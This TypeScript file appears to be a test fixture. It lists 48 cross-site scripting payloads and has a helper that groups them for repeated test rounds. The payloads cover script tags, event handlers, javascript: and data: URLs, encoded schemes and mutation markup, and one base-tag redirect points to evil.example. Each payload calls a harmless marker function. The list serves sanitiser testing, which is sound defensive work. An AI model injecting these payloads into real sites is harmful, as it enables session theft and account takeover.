/**
 * Each calls `pwned` when a browser runs it: elements, event handlers, URLs, broken markup, and escapes from text
 * contexts.
 */
export const XSS_VECTORS: readonly string[] = [
  '<script>pwned(1)</script>',
  '"><script>pwned(2)</script>',
  "'><script>pwned(3)</script>",
  '</script><script>pwned(4)</script>',
  '</title><script>pwned(5)</script>',
  '</textarea><script>pwned(6)</script>',
  '</style><script>pwned(7)</script>',
  '--><script>pwned(8)</script>',
  ']]><script>pwned(9)</script>',
  '<img src=x onerror=pwned(10)>',
  '<img src=x onerror="pwned(11)"//',
  '<svg onload=pwned(12)>',
  '<svg/onload=pwned(13)//',
  '<svg><script>pwned(14)</script></svg>',
  '<svg><animate onbegin=pwned(15) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned(16)>',
  '<body onload=pwned(17)>',
  '<iframe srcdoc="<script>parent.pwned(18)</script>"></iframe>',
  '<iframe src="javascript:parent.pwned(19)"></iframe>',
  '<object data="javascript:pwned(20)"></object>',
  '<embed src="javascript:pwned(21)">',
  '<a href="javascript:pwned(22)" id=x autofocus onfocus=pwned(22)>x</a>',
  '<a href="java&#x0A;script:pwned(23)">x</a>',
  '<a href="&#106;avascript:pwned(24)">x</a>',
  '<a href=" &#1;javascript:pwned(25)">x</a>',
  '<a href="data:text/html,<script>pwned(26)</script>">x</a>',
  '<form action="javascript:pwned(27)"><button autofocus onfocus=pwned(27)>x</button></form>',
  '<input autofocus onfocus=pwned(28)>',
  '<details open ontoggle=pwned(29)>x</details>',
  '<video><source onerror=pwned(30)></video>',
  '<audio src=x onerror=pwned(31)>',
  '<marquee onstart=pwned(32)>x</marquee>',
  '<style>@import "javascript:pwned(33)";</style>',
  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:pwned(34))}">',
  '<meta http-equiv=refresh content="0;url=javascript:pwned(35)">',
  '<base href="https://evil.example/">',
  '<template><script>pwned(37)</script></template><noscript><p title="</noscript><img src=x onerror=pwned(37)>">',
  '" autofocus onfocus=pwned(38) x="',
  "' autofocus onfocus=pwned(39) x='",
  'javascript:pwned(40)',
  'javascript://%0Apwned(41)',
  '<p style="background:url(javascript:pwned(42))" onmouseover=pwned(42)>x</p>',
  '<div popover id=p onbeforetoggle=pwned(43)>x</div><button popovertarget=p>x</button>',
  '&lt;script&gt;pwned(44)&lt;/script&gt;',
  '\u003cscript\u003epwned(45)\u003c/script\u003e',
  '<scr<script>ipt>pwned(46)</scr</script>ipt>',
  '<img src=/files/x/1 alt="x" onload=pwned(47) srcset="x onerror=pwned(47)">',
  '{{pwned(48)}}{{constructor.constructor("pwned(48)")()}}',
]

const TOGETHER = 6

/** Joins as many of them as one text may hold. */
export function vectorsFor(place: number, most: number): string {
  const from = (place * TOGETHER) % XSS_VECTORS.length
  const some = [...XSS_VECTORS, ...XSS_VECTORS].slice(from, from + TOGETHER).join(' ')
  if (some.length <= most) return some
  const short = [...XSS_VECTORS, ...XSS_VECTORS].slice(from).find(({ length }) => length <= most)
  return short ?? '<a'.slice(0, most)
}

export const ROUNDS = XSS_VECTORS.length / TOGETHER
